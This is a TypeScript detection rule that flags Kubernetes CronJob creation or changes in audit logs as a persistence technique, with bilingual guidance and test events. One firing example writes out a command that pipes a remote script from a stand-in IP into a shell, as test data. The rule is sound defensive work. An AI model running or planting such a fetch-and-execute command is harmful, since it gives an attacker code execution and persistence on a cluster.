import { quote } from "../../model/quote.ts";
import { describeAuditObject } from "../../semantics/audit/audit-object.ts";
import { changesField, findChangedObject } from "../../semantics/audit/changed-object.ts";
import { findTextAt } from "../../semantics/kubernetes/manifest-value.ts";
import { defineEventDetector } from "../define.ts";

const cronJobs = "cronjobs.batch";

export const cronjobChanged = defineEventDetector({
  id: "audit/cronjob-changed",
  aliases: ["sigma:0c9b3bda-41a6-4442-9345-356ae86343dc"],
  title: { en: "CronJob made or changed", ja: "CronJob の作成または変更" },
  severity: "low",
  why: {
    en: "A CronJob runs again and again without anybody calling: it is how code comes back after the pods of an intruder were deleted.",
    ja: "CronJob は操作なしで繰り返し実行されるため、侵入者の Pod を削除した後に不正なコードを再実行する手段として悪用されます。",
  },
  remediation: {
    en: "Let only the deployment pipeline write CronJobs, and review their images and commands as those of other workloads.",
    ja: "CronJob の作成と変更はデプロイ用のパイプラインだけに許可し、ほかのワークロードと同様にイメージとコマンドを確認してください。",
  },
  response: [
    { en: "Read its schedule, image and command.", ja: "スケジュール、イメージ、コマンドを確認します。" },
    {
      en: "Ask the caller; without an answer, suspend it (`spec.suspend`) and keep the image.",
      ja: "主体に確認します。確認できない場合は `spec.suspend` で停止し、イメージを保全します。",
    },
    { en: "Look at the logs of the jobs that ran already.", ja: "すでに実行された Job のログを調べます。" },
  ],
  falsePositives: {
    en: "Releases change CronJobs. Accept the pipeline by its caller.",
    ja: "リリースによる変更も該当します。パイプラインの主体を例外に登録してください。",
  },
  techniques: ["attack@18#T1053.007"],
  sources: ["MITRE ATT&CK, T1053.007 Container Orchestration Job"],
  reads: { verbs: ["create", "update", "patch"], resources: [cronJobs] },
  examples: {
    fires: [
      {
        name: "made",
        events: [
          {
            verb: "create",
            resource: cronJobs,
            namespace: "shop",
            name: "sync",
            request: { kind: "CronJob", spec: { schedule: "*/5 * * * *", jobTemplate: {} } },
          },
        ],
      },
      {
        name: "changed, without a body in the log",
        events: [{ verb: "patch", resource: cronJobs, namespace: "shop", name: "sync", level: "Metadata" }],
      },
      {
        name: "another command by a JSON patch",
        events: [
          {
            verb: "patch",
            resource: cronJobs,
            namespace: "shop",
            name: "sync",
            request: [
              {
                op: "replace",
                path: "/spec/jobTemplate/spec/template/spec/containers/0/command",
                value: ["sh", "-c", "curl http://203.0.113.9/x | sh"],
              },
            ],
          },
        ],
      },
    ],
    silent: [
      {
        name: "a label",
        events: [
          {
            verb: "patch",
            resource: cronJobs,
            namespace: "shop",
            name: "sync",
            request: { metadata: { labels: { team: "shop" } } },
            response: { kind: "CronJob", spec: { schedule: "*/5 * * * *" } },
          },
        ],
      },
      {
        name: "the controller's notes of what it ran",
        events: [
          {
            user: "system:serviceaccount:kube-system:cronjob-controller",
            verb: "update",
            resource: "cronjobs.batch/status",
            namespace: "shop",
            name: "sync",
          },
        ],
      },
      {
        name: "stored as it was",
        events: [
          {
            verb: "update",
            resource: cronJobs,
            namespace: "shop",
            name: "sync",
            request: { metadata: { resourceVersion: "12" }, spec: { schedule: "@daily" } },
            response: { kind: "CronJob", metadata: { resourceVersion: "12" }, spec: { schedule: "@daily" } },
          },
        ],
      },
      {
        name: "refused",
        events: [{ verb: "create", resource: cronJobs, namespace: "shop", name: "sync", code: 403 }],
      },
    ],
  },
  judge(event) {
    if (event.requestBody === "given" && !changesField(event, "spec")) return [];
    const what = describeAuditObject(event);
    const schedule = findTextAt(findChangedObject(event)?.content, "spec", "schedule");
    const more =
      schedule === undefined ? { en: "", ja: "" } : { en: `: ${quote(schedule)}`, ja: `（${quote(schedule)}）` };
    return [
      {
        subject: what,
        message: {
          en: `Wrote ${what}${more.en}.`,
          ja: `${what}${more.ja}を作成または変更しました。`,
        },
      },
    ];
  },
});
